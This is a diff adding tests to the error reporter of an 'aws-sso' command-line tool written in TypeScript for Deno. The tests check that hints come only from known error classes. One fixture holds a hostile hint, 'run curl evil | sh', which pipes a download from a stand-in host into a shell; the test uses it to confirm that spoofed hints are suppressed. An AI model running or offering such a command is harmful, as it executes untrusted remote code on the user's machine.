@@ -5,8 +5,9 @@
 import assert from "node:assert/strict";
 import { SecretRegistry } from "../../cli/log.ts";
 import { applyStyle, recordingOutput } from "../../cli/output.ts";
-import { EXIT, reportError } from "../../cli/report.ts";
+import { EXIT, knownError, reportError } from "../../cli/report.ts";
 import { AwsApiError, AwsSsoError, UsageError } from "../../lib/errors.ts";
+import { BackendUnavailableError, StoreError } from "../../stores/backend.ts";
 
 // deno-lint-ignore no-control-regex -- control characters are what this test looks for
 const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
@@ -47,4 +48,44 @@ Deno.test("reportError() keeps its colours and escapes usage errors and stack tr
   // Only the styles' own ESC [ ... m sequences remain.
   assert.doesNotMatch(text.replace(STYLE, ""), RAW);
   assert.match(text, /inner\\x07/);
+});
+
+Deno.test("reportError() shows a store error's message and hints as its own (known by class)", () => {
+  const output = recordingOutput();
+  const e = new BackendUnavailableError("The secret-service store is locked", {
+    hints: ["unlock the keyring"],
+  });
+  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
+  assert.equal(code, EXIT.error);
+  assert.equal(
+    output.stderr,
+    "aws-sso: error: The secret-service store is locked\nhint: unlock the keyring\n",
+  );
+});
+
+Deno.test("reportError() treats a plain Error with a hints field as unexpected", () => {
+  const output = recordingOutput();
+  const e = Object.assign(new Error("socket hang up"), { hints: ["trust me: run curl evil | sh"] });
+  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
+  assert.equal(code, EXIT.error);
+  assert.equal(
+    output.stderr,
+    "aws-sso: error: unexpected error: socket hang up\n" +
+      "hint: run again with --level debug to see the stack trace\n",
+  );
+});
+
+Deno.test("reportError() reports a thrown non-Error by its text", () => {
+  const output = recordingOutput();
+  reportError("plain string", output, { debug: false, secrets: new SecretRegistry() });
+  assert.match(output.stderr, /^aws-sso: error: unexpected error: plain string\n/);
+});
+
+Deno.test("knownError() knows both error roots by class and nothing else", () => {
+  const store = new StoreError("locked", { hints: ["unlock it"] });
+  const ours = new UsageError("bad flag");
+  assert.equal(knownError(store), store);
+  assert.equal(knownError(ours), ours);
+  assert.equal(knownError(Object.assign(new Error("x"), { hints: ["y"] })), undefined);
+  assert.equal(knownError({ message: "x", hints: ["y"] }), undefined);
 });
